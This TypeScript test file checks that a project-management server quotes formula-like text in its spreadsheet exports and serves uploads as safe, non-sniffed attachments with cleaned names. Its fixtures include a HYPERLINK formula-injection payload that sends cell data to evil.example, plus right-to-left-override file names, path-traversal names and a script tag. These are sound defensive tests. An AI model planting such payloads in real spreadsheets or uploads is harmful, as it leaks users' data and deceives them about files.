import ExcelJS from 'exceljs'
import { describe, expect, test } from 'vitest'
import { createTestContext } from '../test/context.ts'
import { MultipartBody } from '../test/endpoints.ts'
import { recordAudit } from './audit.ts'
import { csvField } from './csv.ts'
import { cellValue, workbookBuffer } from './excel.ts'
import { cleanFileName, safeContentType } from './files.ts'
import { ReadBudget } from './read-limits.ts'
import { openZip, readZipPart } from './zip.ts'

/**
 * What the server hands back: every export guards text a spreadsheet could take for a formula (issue 10,
 * point 9), and every download is an attachment of a safe type, never sniffed, under a cleaned name (point 8).
 */
const t = await createTestContext()
const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
const city = await t.make.jurisdiction()
const edu = await t.make.department({ jurisdiction: city, name: '@SUM(1+1)教育局' })
const school = await t.make.unit({ department: edu, name: '+第一中学' })
const unitUser = await t.make.user({ role: 'unit_user', org: school })
const financeAdmin = await t.make.user({ role: 'finance_admin', org: city })
const sysAdmin = await t.make.user({ role: 'sys_admin', org: city, username: 'sys-admin-x' })
const auditAdmin = await t.make.user({ role: 'audit_admin', org: city })
const project = await t.make.project({ unit: school, name: HOSTILE, amountGeneral: '3000000.00' })
await t.db.updateTable('project').set({ isMajorNew: true }).where('id', '=', project.id).execute()

async function download(user: { username: string }, url: string) {
  const { cookie } = await t.as(user)
  return t.app.inject({ method: 'GET', url, headers: { cookie: cookie! } })
}

/** Every text cell of every sheet of an exported workbook (of every workbook, for a zip of them), as stored. */
async function texts(body: Buffer): Promise<string[]> {
  if (body.subarray(0, 4).equals(Buffer.from('PK\x03\x04', 'latin1')) && !(await readZipPart(body, '[Content_Types].xml', new ReadBudget()))) {
    const zip = await openZip(body, new ReadBudget())
    const found: string[] = []
    for (const part of zip.parts.values()) {
      const chunks: Buffer[] = []
      for await (const chunk of zip.read(part)) chunks.push(chunk)
      found.push(...(await texts(Buffer.concat(chunks))))
    }
    return found
  }
  const book = new ExcelJS.Workbook()
  await book.xlsx.load(body as unknown as Parameters<typeof book.xlsx.load>[0])
  const found: string[] = []
  book.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => void (typeof cell.value === 'string' && found.push(cell.value)))))
  return found
}

const dangerous = (values: string[]) => values.filter((v) => /^[=+\-@\t\r]/.test(v))

describe('every export quotes formula-like text', () => {
  const exports: [string, { username: string }, string, string][] = [
    ['projects', unitUser, '/api/projects/export', `'${HOSTILE}`],
    ['departments', financeAdmin, '/api/org/departments/export', "'@SUM(1+1)教育局"],
    ['units', financeAdmin, '/api/org/units/export', "'+第一中学"],
    ['users', sysAdmin, '/api/users/export', "'+第一中学"],
    ['indicators', financeAdmin, '/api/indicators/export', "'-1+1 指标"],
    ['ex-ante assessments', financeAdmin, '/api/exante/export', `'${HOSTILE}`],
    ['goal declarations', financeAdmin, '/api/goals/declarations.zip', `'${HOSTILE}`],
    ['audit log', auditAdmin, '/api/audit/export', "'=1+2"],
  ]

  test.each(exports)('%s', async (_name, user, url, expected) => {
    if (url.startsWith('/api/indicators')) await t.make.indicator({ owner: null, name: '-1+1 指标' })
    if (url.startsWith('/api/exante')) expect((await (await t.as(unitUser)).post('/api/exante', { projectId: project.id })).statusCode).toBe(201)
    if (url.startsWith('/api/goals')) await t.make.goal({ project })
    if (url.startsWith('/api/audit')) {
      await t.db.transaction().execute((trx) => recordAudit(trx, { actor: null, requestId: '=1+2', clientIp: '-1', now: t.clock.now(), lang: 'zh' }, { action: 'test.hostile', entityType: '@x', entityId: null }))
    }
    const res = await download(user, url)
    expect(res.statusCode).toBe(200)
    const values = await texts(res.rawPayload)
    expect(values).toContain(expected)
    expect(dangerous(values)).toEqual([])
  })

  test('one goal’s 申报表 and the import templates too', async () => {
    const goal = await t.make.goal({ project: await t.make.project({ unit: school, name: `${HOSTILE}二` }) })
    for (const url of [`/api/goals/${goal.id}/declaration.xlsx`, '/api/goals/import-template', '/api/projects/import-template']) {
      const res = await download(url.includes('template') ? unitUser : financeAdmin, url)
      expect(res.statusCode).toBe(200)
      expect(dangerous(await texts(res.rawPayload))).toEqual([])
    }
  })

  test('numbers stay numbers — a negative amount is a number cell, the text "-5" is quoted — and the reader drops the quote', async () => {
    const book = new ExcelJS.Workbook()
    book.addWorksheet('s').addRow([-5, '-5', '@a', 'a=b', { richText: [{ text: '=1' }, { text: '+2' }] }])
    const back = new ExcelJS.Workbook()
    await back.xlsx.load((await workbookBuffer(book)) as unknown as Parameters<typeof back.xlsx.load>[0])
    const row = back.getWorksheet('s')!.getRow(1).values as unknown[]
    expect(row.slice(1, 5)).toEqual([-5, "'-5", "'@a", 'a=b'])
    expect(cellValue(row[5])).toBe('=1+2')
    expect(row.slice(1).map(cellValue)).toEqual([-5, '-5', '@a', 'a=b', '=1+2'])
    expect([csvField(-5), csvField('-5'), csvField('\tx'), csvField('=1,2'), csvField('a-b')]).toEqual(['-5', "'-5", "'\tx", `"'=1,2"`, 'a-b'])
  })
})

describe('downloads', () => {
  const RLO = '\u202e'
  async function attach(fileName: string, contentType: string, content = Buffer.from('<script>alert(1)</script>')) {
    const body = new MultipartBody(fileName, content, contentType)
    const { cookie } = await t.as(unitUser)
    const res = await t.app.inject({ method: 'POST', url: `/api/projects/${project.id}/attachments`, payload: body.payload(), headers: { cookie: cookie!, 'content-type': `multipart/form-data; boundary=${body.boundary}` } })
    expect(res.statusCode).toBe(201)
    return res.json() as { id: string; fileName: string; contentType: string }
  }

  test('an uploaded page or SVG comes back as an octet-stream attachment, not sniffed, its name cleaned at upload', async () => {
    for (const [name, type, cleaned] of [
      [`invoice${RLO}lmth.pdf`, 'text/html', 'invoicelmth.pdf'],
      ['logo.svg', 'image/svg+xml', 'logo.svg'],
      ['..\\..\\a/b\u0007\u2067.txt', 'text/html; charset=utf-8', 'b.txt'],
    ]) {
      const stored = await attach(name!, type!)
      expect(stored).toMatchObject({ fileName: cleaned, contentType: 'application/octet-stream' })
      const res = await download(unitUser, `/api/projects/${project.id}/attachments/${stored.id}`)
      expect(res.headers).toMatchObject({ 'content-type': 'application/octet-stream', 'x-content-type-options': 'nosniff' })
      expect(String(res.headers['content-disposition'])).toMatch(/^attachment; filename="[^"]*"; filename\*=UTF-8''/)
      expect(String(res.headers['content-disposition'])).not.toMatch(/%E2%80%AE|\u202e/i)
    }
  })

  test('names lose bidi and control characters and path separators; types off the allow-list become octet-stream', () => {
    expect(cleanFileName(`..\\..\\a/b\u0007\u200f${RLO}.txt\u2066`)).toBe('.._.._a_b.txt')
    expect(cleanFileName(' \u202a ')).toBe('file')
    expect([safeContentType('image/PNG'), safeContentType('image/svg+xml'), safeContentType('text/plain; charset=gbk'), safeContentType(undefined)]).toEqual(['image/png', 'application/octet-stream', 'text/plain', 'application/octet-stream'])
  })

  test('documents keep their type; a row stored before the cleaning is cleaned on the way out', async () => {
    const pdf = await attach('实施方案.pdf', 'application/pdf', Buffer.from('%PDF-1.4'))
    const res = await download(unitUser, `/api/projects/${project.id}/attachments/${pdf.id}`)
    expect(res.headers).toMatchObject({ 'content-type': 'application/pdf', 'x-content-type-options': 'nosniff' })
    expect(res.headers['content-disposition']).toBe(`attachment; filename="____.pdf"; filename*=UTF-8''${encodeURIComponent('实施方案.pdf')}`)
    const old = await t.db.insertInto('storedFile').values({ sha256: '0'.repeat(64), fileName: `a${RLO}gpj.html`, contentType: 'text/html', sizeBytes: 3, content: Buffer.from('<b>') }).returning('id').executeTakeFirstOrThrow()
    const link = await t.db.insertInto('projectAttachment').values({ projectId: project.id, fileId: old.id, createdAt: t.clock.now() }).returning('id').executeTakeFirstOrThrow()
    const served = await download(unitUser, `/api/projects/${project.id}/attachments/${link.id}`)
    expect(served.headers).toMatchObject({ 'content-type': 'application/octet-stream', 'x-content-type-options': 'nosniff', 'content-disposition': `attachment; filename="agpj.html"; filename*=UTF-8''agpj.html` })
  })

  test('every other download is an attachment too, not sniffed', async () => {
    for (const url of ['/api/projects/export', '/api/projects/import-template', '/api/goals/import-template']) {
      const res = await download(unitUser, url)
      expect(res.headers).toMatchObject({ 'x-content-type-options': 'nosniff', 'content-type': 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet' })
      expect(String(res.headers['content-disposition'])).toMatch(/^attachment; /)
    }
  })
})
